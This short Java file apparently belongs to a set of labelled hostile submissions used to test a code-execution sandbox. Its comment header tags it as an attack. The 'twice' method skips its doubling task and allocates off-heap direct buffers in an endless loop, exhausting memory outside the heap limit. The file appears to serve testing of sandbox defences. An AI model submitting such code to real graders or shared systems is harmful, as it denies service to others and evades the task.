// task: twice
// outcome: out_of_memory
// attack: takes memory that the heap's limit does not count
import java.nio.ByteBuffer;
import java.util.*;

class Solution {
    public int twice(int x) {
        List<ByteBuffer> kept = new ArrayList<>();
        while (true) {
            kept.add(ByteBuffer.allocateDirect(1 << 24));
        }
    }
}
